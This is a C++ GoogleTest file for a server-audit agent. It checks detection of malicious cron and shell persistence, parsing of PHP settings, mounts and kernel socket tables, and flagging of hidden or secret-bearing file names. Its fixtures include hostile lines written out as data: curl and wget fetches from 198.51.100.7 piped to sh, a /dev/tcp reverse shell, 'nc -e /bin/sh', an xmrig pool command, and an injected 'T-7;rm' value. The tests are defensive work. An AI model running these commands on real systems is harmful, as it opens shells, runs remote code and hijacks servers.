// The pure parts of what the audit says of a server: command lines, settings, mounts, sockets, names.
#include <gtest/gtest.h>

#include "agent/audit/audit.hpp"
#include "agent/audit/host/command_signs.hpp"
#include "agent/audit/host/places.hpp"
#include "agent/audit/host/schedules.hpp"
#include "agent/audit/host/sockets.hpp"
#include "agent/audit/php/php_settings.hpp"

namespace pinfold::agent::audit {
namespace {

TEST(CommandSigns, SpeakOnlyAgainstWhatBringsThingsBack) {
  for (const char* bad : {"*/5 * * * * curl -fsSL http://198.51.100.7/x.sh | sh", "* * * * * wget -q -O - http://198.51.100.7/i|bash >/dev/null 2>&1",
                          "@reboot /dev/shm/.x/run", "*/10 * * * * perl /tmp/bot.pl", "* * * * * /var/tmp/.update/upd >/dev/null 2>&1",
                          "echo YmFzaCAtaQ== | base64 -d | bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", "nohup /tmp/kswapd0 &",
                          "ExecStart=/dev/shm/x --config=c", "nc -e /bin/sh 198.51.100.7 4444",
                          "* * * * * cd /tmp; wget http://198.51.100.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "export LD_PRELOAD=/tmp/lib.so",
                          "xmrig -o stratum+tcp://pool.invalid:3333", "* * * * * /var/www/... /x"}) {
    EXPECT_NE(sign_in(bad), "") << bad;
  }
  for (const char* good : {"17 * * * * root cd / && run-parts --report /etc/cron.hourly",
                           "*/5 * * * * www-data /usr/bin/php /var/www/nextcloud/cron.php",
                           "0 3 * * * curl -s https://example.net/cron.php >/dev/null",
                           "30 2 * * * /usr/local/bin/backup >/tmp/backup.log 2>&1",
                           "0 4 * * * wget -q -O /dev/null https://example.net/wp-cron.php",
                           "# */5 * * * * curl http://198.51.100.7/x.sh | sh",
                           "",
                           "find /tmp -mtime +7 -delete",
                           "rm -f /tmp/x",
                           "0 5 * * * rm -rf /tmp/cache",
                           "TMP=/tmp/x",
                           "cat /tmp/a | sort",
                           "test -e /tmp/x || touch /tmp/x",
                           "export PATH=$HOME/bin:$PATH",
                           "[ -f /tmp/lock ] && exit",
                           "alias ll='ls -l'",
                           "eval \"$(ssh-agent -s)\"",
                           "eval \"$(dircolors -b)\"",
                           "TMPDIR=/var/tmp",
                           "ExecStart=/usr/sbin/nginx -g 'daemon on;'"}) {
    EXPECT_EQ(sign_in(good), "") << good;
  }
}

TEST(PhpSettings, AreReadAsPhpReadsThem) {
  const auto settings = parse_ini(
      "[PHP]\nallow_url_include = On ; comment\n;expose_php = On\ndisplay_errors=\"1\"\nphp_admin_value[auto_prepend_file] = "
      "/tmp/x.php\nallow_url_include = Off\n");
  EXPECT_EQ(settings.at("allow_url_include"), "Off") << "the last one counts";
  EXPECT_EQ(settings.at("display_errors"), "1");
  EXPECT_EQ(settings.at("auto_prepend_file"), "/tmp/x.php");
  EXPECT_EQ(settings.count("expose_php"), 0U);
}

TEST(PhpSettings, ThatInviteTroubleAreNamed) {
  const auto names = [](std::string_view text, bool serves) {
    std::string all;
    for (const BadSetting& bad : bad_settings(parse_ini(text), serves)) {
      all += bad.key + (bad.loads_code ? "! " : " ");
    }
    return all;
  };
  EXPECT_EQ(names("allow_url_include=On\nregister_globals=1\n", false), "allow_url_include register_globals ");
  EXPECT_EQ(names("display_errors=On", false), "") << "on the command line errors belong on the screen";
  EXPECT_EQ(names("display_errors=On", true), "display_errors ");
  EXPECT_EQ(names("auto_prepend_file=/var/www/x/.cache.jpg", true), "auto_prepend_file! ");
  EXPECT_EQ(names("extension=/tmp/a.so", true), "extension! ");
  EXPECT_EQ(names("extension=curl\nauto_prepend_file=\nexpose_php=Off", true), "");
}

TEST(Mounts, TheLastOneAtAPlaceCounts) {
  const auto mounts = parse_mounts(
      "22 28 0:21 / /tmp rw,nosuid,nodev - tmpfs tmpfs rw\n23 28 0:22 / /dev/shm rw,nosuid,nodev,noexec shared:4 - tmpfs tmpfs rw\n24 28 0:23 / "
      "/mnt/a\\040b rw - ext4 /dev/sda1 rw\n"
      "faulty\n");
  ASSERT_EQ(mounts.size(), 3U);
  EXPECT_EQ(mounts[2].where, "/mnt/a b");
  Report report;
  check_mount_options(mounts, report);
  ASSERT_EQ(report.findings.size(), 2U);
  EXPECT_EQ(report.findings[0].what, "is mounted without noexec");
  EXPECT_EQ(report.findings[1].subject, "/var/tmp");
  EXPECT_EQ(report.counted(), 0U) << "advice does not make the answer no";
}

TEST(Sockets, OfTheKernelsTables) {
  const auto tcp = parse_inet_sockets(
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
      "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   103        0 4711 1 0 100 0 0 10 0\n"
      "   1: 00000000:2BCB 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 4712 1 0 100 0 0 10 0\n"
      "   2: 0100007F:0CEA 0100007F:9999 01 00000000:00000000 00:00000000 00000000   103        0 4713 1 0 100 0 0 10 0\n"
      "   3: 00000000:ZZZZ 00000000:0000 0A 0:0 0:0 0 0 0 4714 1\n",
      "tcp");
  ASSERT_EQ(tcp.size(), 2U);
  EXPECT_EQ(tcp[0].address, "127.0.0.1");
  EXPECT_TRUE(tcp[0].is_loopback);
  EXPECT_EQ(tcp[1].port, 11211);
  EXPECT_EQ(tcp[1].inode, 4712U);
  const auto tcp6 =
      parse_inet_sockets("   0: 00000000000000000000000001000000:0050 00000000000000000000000000000000:0000 0A 0:0 0:0 0 0 0 99 1\n", "tcp6");
  ASSERT_EQ(tcp6.size(), 1U);
  EXPECT_EQ(tcp6[0].address, "::1");
  const auto packet =
      parse_packet_sockets("sk               RefCnt Type Proto  Iface R Rmem   User   Inode\nffff8 3      3    0003   2     1 0      0      815\n");
  ASSERT_EQ(packet.size(), 1U);
  EXPECT_EQ(packet[0].inode, 815U);
}

TEST(Names, MadeToBeOverlooked) {
  for (const char* hiding : {"...", ". ", "..x", " ", "x ", " x", "a\nb", ".. "}) {
    EXPECT_TRUE(is_hiding_name(hiding)) << '"' << hiding << '"';
  }
  for (const char* plain : {".X11-unix", ".cache", "systemd-private-1", "a b", "x"}) {
    EXPECT_FALSE(is_hiding_name(plain)) << plain;
  }
}

TEST(Names, SayWhatAFileIs) {
  EXPECT_EQ(use_of("index.php"), FileUse::Script);
  EXPECT_EQ(use_of("INDEX.PHP5"), FileUse::Script);
  EXPECT_EQ(use_of("picture.php.jpg"), FileUse::Script);
  EXPECT_EQ(use_of(".htaccess"), FileUse::Script);
  EXPECT_EQ(use_of("favicon.ico"), FileUse::Picture);
  EXPECT_EQ(use_of("app.js"), FileUse::Nothing);
  EXPECT_EQ(use_of("movie.mp4"), FileUse::Nothing);
  EXPECT_NE(secret_of("wp-config.php.bak"), "");
  EXPECT_NE(secret_of(".env"), "");
  EXPECT_NE(secret_of("backup.sql"), "");
  EXPECT_EQ(secret_of("schema.sql"), "");
  EXPECT_EQ(secret_of("wp-config.php"), "");
  EXPECT_EQ(secret_of("notes.txt"), "");
}

TEST(Names, OfWebContent) {
  for (const char* web :
       {"/var/www", "/var/www/html/x", "/home/a/public_html", "/home/a/public_html/x", "/srv/www/x", "/var/www/vhosts/x/httpdocs"}) {
    EXPECT_TRUE(is_web_content(web)) << web;
  }
  for (const char* other : {"/home/a", "/root", "/var/wwwroot2", "/home/a/public_html2", "/var/lib/x"}) {
    EXPECT_FALSE(is_web_content(other)) << other;
  }
}

TEST(Orders, HaveAPlainName) {
  EXPECT_TRUE(is_order("T-7"));
  for (const char* bad : {"", "T 7", "-x", "T-7;rm", "T-7\n"}) {
    EXPECT_FALSE(is_order(bad)) << bad;
  }
}

TEST(FindingKinds, EachHasItsWords) {
  for (const FindingKind& kind : finding_kinds()) {
    EXPECT_FALSE(kind.title.empty() || kind.why.empty() || kind.first.empty()) << kind.name;
    EXPECT_TRUE(kind.step == "update" || kind.step == "remove" || kind.step == "change") << kind.name;
  }
}

}  // namespace
}  // namespace pinfold::agent::audit
